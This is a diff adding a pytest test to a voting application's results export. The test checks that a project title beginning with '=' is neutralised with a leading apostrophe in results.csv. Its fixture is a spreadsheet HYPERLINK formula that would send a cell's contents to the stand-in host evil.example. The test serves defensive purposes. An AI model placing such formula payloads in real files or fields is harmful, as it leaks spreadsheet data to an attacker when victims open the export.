@@ -145,3 +145,20 @@ def test_before_voting_opens_the_pools_page_promises_no_ballot_now(client, login
     assert "Voting is not open now." in page
     assert "You are verified. You can vote in these pools only while voting is open." in page
     assert "until voting closes" not in page and "Fill in the ballot" not in page and "Change my ballot" not in page
+
+
+def test_results_csv_neutralises_a_title_that_looks_like_a_formula(client, db, voting_world):
+    """Issue 18: a resident's title starting with "=" stayed a live formula in results.csv."""
+    import csv
+    import io
+
+    from pb.voting import services as voting_services
+
+    w = voting_world
+    w.projects[0].title = '=HYPERLINK("http://evil.example/?leak="&B2,"map")'
+    db.session.commit()
+    voting_services.close_vote(w.clerk, w.process, reason="Closing for the formula injection test.")
+    db.session.commit()
+    rows = list(csv.reader(io.StringIO(client.get("/m/testville/vote/results.csv").get_data(as_text=True))))
+    titles = [row[2] for row in rows[1:]]
+    assert "'" + w.projects[0].title in titles and w.projects[0].title not in titles
